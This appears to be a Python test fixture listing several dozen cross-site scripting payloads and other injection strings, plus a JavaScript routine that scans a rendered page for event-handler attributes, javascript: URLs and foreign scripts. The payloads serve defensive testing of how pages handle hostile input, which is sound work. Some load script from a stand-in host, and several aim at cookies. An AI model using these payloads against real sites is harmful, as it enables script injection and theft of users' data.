"""Hostile input for the hostile-link tests of every engine: XSS payloads, and a check of a
page for anything they could have turned into markup or script."""

from __future__ import annotations

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.invalid/xss.js></SCRIPT>",
    "javascript:alert(1)",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="https://xss.invalid/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=https://xss.invalid/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"javascript:alert('XSS');\"></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<STYLE>@import'https://xss.invalid/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.invalid/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH" AllowScriptAccess="always"></EMBED>',
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "</select><img src=x onerror=alert(1)>",
    "</option><script>alert(1)</script>",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "__proto__",
    "constructor",
    "toString",
    "import os; os.system('echo pwned')",
    '"); import js; js.alert(1); ("',
    "1; __import__('os')",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\u202e<script>alert(1)</script>",
    "a" * 5000,
]


SUSPICIOUS = """() => {
  const bad = [];
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      if (/^on/i.test(attr.name)) bad.push(el.tagName + '[' + attr.name + ']');
      const urlAttr = /^(href|src|action|formaction|data|xlink:href|background|poster|srcdoc)$/i.test(attr.name);
      if (urlAttr && /^\\s*javascript:/i.test(attr.value)) bad.push(el.tagName + '[' + attr.name + '=javascript:]');
    }
  }
  for (const el of document.querySelectorAll('article iframe, article object, article embed, article img, article svg script, article script, article style, meta[http-equiv=refresh]')) {
    bad.push(el.tagName);
  }
  const scripts = [...document.scripts].filter(s => s.type !== 'application/json' && !(s.src && new URL(s.src).origin === location.origin));
  for (const s of scripts) bad.push('script:' + (s.src || s.textContent.slice(0, 30)));
  return bad;
}"""
